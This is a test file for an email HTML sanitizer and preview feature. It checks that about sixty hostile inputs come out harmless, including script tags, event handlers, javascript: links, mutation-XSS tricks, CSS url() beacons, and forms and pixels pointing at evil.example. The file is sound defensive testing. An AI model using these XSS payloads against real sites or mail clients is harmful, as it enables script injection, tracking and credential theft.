import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { buildConnection, buildItem, buildMember, createTestDatabase, testContext } from '@switchboard/testing'
import { previewItem, sanitizeMail } from '../../src/items/preview-item'

/** What stands between the frame's own `<body>` tags: all that the sender could influence. */
const bodyOf = (html: string) => /<body>([\s\S]*)<\/body><\/html>$/.exec(html)?.[1] ?? ''
const clean = (html: string, images = false) => bodyOf(sanitizeMail(html, { images }).html)

/** The tags of the result with their attributes, read as a browser would: text between tags is harmless. */
function tagsOf(body: string): { name: string; attributes: [name: string, value: string][] }[] {
  return [...body.matchAll(/<\/?([a-z][\w:-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)].map(([, name, rest]) => ({
    name: (name ?? '').toLowerCase(),
    attributes: [...(rest ?? '').matchAll(/([^\s"'=<>/]+)\s*=\s*"([^"]*)"/g)].map(([, attribute, value]) => [
      (attribute ?? '').toLowerCase(),
      decode(value ?? ''),
    ]),
  }))
}
const decode = (value: string) =>
  value.replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')

const safeTags =
  'a abbr b blockquote br center code col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins li ol p pre s small span strong sub sup table tbody td tfoot th thead tr u ul'.split(
    ' ',
  )
const safeAttributes =
  'style align valign dir lang title href target rel src alt width height cellpadding cellspacing border bgcolor colspan rowspan color size face'.split(
    ' ',
  )

/** Nothing that runs, submits, reframes or loads. Links stay: they wait for a click and open without opener or referrer. */
function expectHarmless(body: string, images = false) {
  for (const { name, attributes } of tagsOf(body)) {
    expect(safeTags, body).toContain(name)
    for (const [attribute, value] of attributes) {
      expect(safeAttributes, body).toContain(attribute)
      if (attribute === 'href') expect(value, body).toMatch(/^(https?:|mailto:)/i)
      if (attribute === 'src') expect(value, body).toMatch(images ? /^(data:|https?:)/i : /^data:/i)
      if (attribute === 'style')
        expect(value, body).not.toMatch(/url|expression|import|position|@|\\|javascript|behavior/i)
      if (attribute === 'target') expect(value).toBe('_blank')
      if (attribute === 'rel') expect(value).toBe('noopener noreferrer nofollow')
    }
  }
}

const vectors: [name: string, html: string][] = [
  ['script', '<script>alert(1)</script>'],
  ['script from afar', '<script src="https://evil.example/x.js"></script>'],
  ['nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['unclosed script', '<script>alert(1)'],
  ['upper case', '<SCRIPT>alert(1)</SCRIPT><IMG SRC="https://evil.example/p.gif" ONERROR=alert(1)>'],
  ['image handler', '<img src=x onerror=alert(1)>'],
  ['handler without quotes', '<p onclick=alert(1)>x</p>'],
  ['handler after slash', '<img/src="x"/onerror=alert(1)>'],
  ['handler behind a broken attribute', '<a href="x" "onmouseover=alert(1)">x</a>'],
  ['pointer handler', '<div onpointerenter="alert(1)" onfocus=alert(1) tabindex=1 autofocus>x</div>'],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript link in parts', '<a href="java&#10;script:alert(1)">x</a><a href=" &#14; javascript:alert(1)">y</a>'],
  [
    'javascript by entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;alert(1)">x</a>',
  ],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['file link', '<a href="file:///etc/passwd">x</a>'],
  ['style url', '<div style="background:url(https://evil.example/a.png)">x</div>'],
  ['style image', '<div style="background-image:url(//evil.example/a.png);color:red">x</div>'],
  ['style list', '<ul style="list-style:url(https://evil.example/a.png)"><li>x</ul>'],
  ['style escapes', '<div style="background:\\75 rl(https://evil.example/a.png)">x</div>'],
  ['style border', '<div style="border:1px url(evil)">x</div>'],
  ['style expression', '<div style="width:expression(alert(1))">x</div>'],
  ['style overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>'],
  ['style behaviour', '<div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml)">x</div>'],
  ['style sheet', '<style>@import "https://evil.example/a.css";body{background:url(https://evil.example/b)}</style>'],
  [
    'style sheet link',
    '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preload" href="//evil.example/x">',
  ],
  ['svg', '<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/a.svg"/></svg>'],
  ['svg animate', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>'],
  ['svg use', '<svg><use href="https://evil.example/a.svg#x"/></svg>'],
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mutation by template', '<template><img src=x onerror=alert(1)></template>'],
  ['mutation by comment', '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> -->'],
  ['cdata', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['title', '<title></title><img src=x onerror=alert(1)></title>'],
  ['textarea', '<textarea></textarea><img src=x onerror=alert(1)>'],
  ['base', '<base href="https://evil.example/"><a href="login">x</a>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  [
    'form',
    '<form action="https://evil.example/"><input name=p type=password><button formaction="//evil.example">x</button></form>',
  ],
  ['iframe', '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['frames', '<frameset onload=alert(1)><frame src="https://evil.example/"></frameset>'],
  ['object', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><applet code=x>'],
  [
    'media',
    '<video src="https://evil.example/v" poster="https://evil.example/p" onerror=alert(1)><source src="//evil.example/s"></video><audio src="https://evil.example/a">',
  ],
  ['image', '<img src="https://evil.example/pixel.gif?id=7">'],
  ['image without scheme', '<img src="//evil.example/pixel.gif">'],
  ['image with backslashes', '<img src="\\\\evil.example/pixel.gif"><img src="/\\evil.example/pixel.gif">'],
  ['image with one slash', '<img src="https:/evil.example/pixel.gif"><img src="https:evil.example/pixel.gif">'],
  ['image behind a tab', '<img src="&#9;//evil.example/pixel.gif"><img src="ht&#10;tps://evil.example/pixel.gif">'],
  [
    'image set',
    '<img srcset="https://evil.example/a 2x" src="cid:1"><picture><source srcset="//evil.example/b"></picture>',
  ],
  [
    'image by other schemes',
    '<img src="ftp://evil.example/a"><img src="blob:https://evil.example/1"><img src="file:///a">',
  ],
  ['image relative', '<img src="pixel.gif"><img src="/pixel.gif"><img src="?a"><img src="#a">'],
  ['input image', '<input type=image src="https://evil.example/a">'],
  [
    'background attribute',
    '<table background="https://evil.example/a"><td background="//evil.example/b">x</td></table>',
  ],
  ['body attributes', '<body background="https://evil.example/a" onload=alert(1)>x</body>'],
  ['link ping', '<a href="https://fine.example" ping="https://evil.example/p" onclick=alert(1)>x</a>'],
  [
    'alternative text that is a tag',
    '<img src="https://evil.example/a" alt="<script>alert(1)</script>&lt;img src=x onerror=alert(1)&gt;">',
  ],
  ['breaking out of the frame', '</body></html><script>alert(1)</script><body onload=alert(1)>'],
  ['breaking out of an attribute', '<p title="&quot;><img src=x onerror=alert(1)>">x</p>'],
  ['NUL in a name', '<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>'],
  ['custom element', '<x-evil onclick=alert(1) style="background:url(//evil.example)">x</x-evil>'],
  ['slot of xlink', '<a xlink:href="javascript:alert(1)" href="#">x</a>'],
]

describe('a hostile mail', () => {
  test.each(vectors)('%s: nothing executable and no remote address survives', (_, html) => {
    const body = clean(html)
    expectHarmless(body)
    for (const { attributes } of tagsOf(body))
      for (const [attribute, value] of attributes) if (attribute !== 'href') expect(value).not.toContain('evil.example')
    expectHarmless(clean(html, true), true)
  })

  const pieces = fc.constantFrom(
    ...vectors.flatMap(([, html]) => [html, html.slice(0, html.length >> 1), html.slice(html.length >> 1)]),
    '<',
    '>',
    '"',
    "'",
    '=',
    '/',
    '&#',
    ';',
    '<!--',
    '-->',
    '<a href="',
    '<img src="',
    ' style="',
    'https://evil.example',
    '\0',
    '\u2028',
  )

  test('put together from any pieces stays harmless, and cleaning twice changes nothing more', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(pieces, fc.string({ maxLength: 8 })), { maxLength: 8 }),
        fc.boolean(),
        (parts, images) => {
          const body = clean(parts.join(''), images)
          expectHarmless(body, images)
          expectHarmless(clean(body, images), images)
        },
      ),
      { numRuns: 400 },
    )
  })

  test('in any style declaration names no address', () => {
    const names = fc.constantFrom(
      'background',
      'background-color',
      'border',
      'width',
      'font-family',
      'color',
      'list-style',
      'content',
      'cursor',
    )
    const values = fc.oneof(
      fc.constantFrom(
        'url(https://evil.example/a)',
        "url('//evil.example')",
        'image-set("https://evil.example" 1x)',
        'u\\72l(x)',
        'attr(x url)',
      ),
      fc.string({ maxLength: 20 }),
    )
    fc.assert(
      fc.property(fc.array(fc.tuple(names, values), { minLength: 1, maxLength: 4 }), (declarations) => {
        const style = declarations
          .map(([name, value]) => `${name}:${value}`)
          .join(';')
          .replaceAll('"', '&quot;')
        expectHarmless(clean(`<div style="${style}">x</div>`))
      }),
      { numRuns: 400 },
    )
  })
})

describe('an honest mail', () => {
  test('keeps its text, layout, links and colours', () => {
    const html =
      '<table width="600" cellpadding="4"><tr><td bgcolor="#ffffff" style="padding: 8px 12px; color:#333">Dear <b>Ada</b> &amp; team,<br>see <a href="https://fine.example/a?b=1&amp;c=2">the offer</a></td></tr></table>'
    const body = clean(html)
    expect(body).toContain('Dear <b>Ada</b> &amp; team,')
    expect(body).toContain('style="padding:8px 12px;color:#333"')
    expect(body).toContain('<table width="600" cellpadding="4">')
    expect(body).toContain(
      '<a href="https://fine.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">the offer</a>',
    )
  })

  test('keeps the pictures that it carries itself', () => {
    const src = 'data:image/png;base64,iVBORw0KGgo='
    expect(sanitizeMail(`<img src="${src}" alt="logo">`, { images: false })).toMatchObject({
      blockedImages: 0,
      html: expect.stringContaining(`src="${src}"`),
    })
  })

  test('its remote images wait, are counted and leave their words; asked for, they come', () => {
    const html =
      '<img src="https://fine.example/a.png" alt="A &amp; B"><img src="//fine.example/b.png"><img src="HTTP://fine.example/c.png">'
    const blocked = sanitizeMail(html, { images: false })
    expect(blocked.blockedImages).toBe(3)
    expect(bodyOf(blocked.html)).toBe('<span>[A &amp; B]</span><span></span><span></span>')
    expect(blocked.html).toContain('img-src data:')
    expect(blocked.html).not.toContain('fine.example')
    const shown = sanitizeMail(html, { images: true })
    expect(shown.blockedImages).toBe(0)
    expect(shown.html).toContain('src="https://fine.example/a.png"')
    expect(shown.html).toContain('img-src https: http: data:')
  })

  test.each([true, false])('its images without an address are left out, nobody is asked about them (%s)', (images) => {
    const { html, blockedImages } = sanitizeMail('<img src="logo.png" alt="x"><img src="cid:1"><img>', { images })
    expect(blockedImages).toBe(0)
    expect(bodyOf(html)).toBe('<span></span><span></span><span></span>')
  })

  test('the frame allows nothing else by its own policy', () => {
    const { html } = sanitizeMail('<p>x</p>', { images: true })
    expect(html).toContain("default-src 'none'; style-src 'unsafe-inline'; img-src https: http: data:")
    expect(html).toContain('<meta name="referrer" content="no-referrer">')
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<style>'))
  })
})

describe('previewing an item', () => {
  const database = createTestDatabase()

  test('shows its HTML, or its text when it has none', async () => {
    const ctx = testContext(database)
    const { actor } = await buildMember(ctx.db)
    const connection = await buildConnection(ctx.db, actor)
    const rich = await buildItem(ctx.db, connection, { html: '<p>Hello</p><img src="https://a.example/b.png">' })
    const plain = await buildItem(ctx.db, connection, { text: 'a < b && <script>alert(1)</script>' })
    expect(await previewItem(ctx, actor, { id: rich.id, images: false })).toMatchObject({ blockedImages: 1 })
    expect(await previewItem(ctx, actor, { id: rich.id, images: true })).toMatchObject({ blockedImages: 0 })
    const { html, blockedImages } = await previewItem(ctx, actor, { id: plain.id, images: true })
    expect(blockedImages).toBe(0)
    expect(bodyOf(html)).toBe('<pre>a &lt; b &amp;&amp; &lt;script&gt;alert(1)&lt;/script&gt;</pre>')
    expect(html).toContain('img-src data:')
  })
})
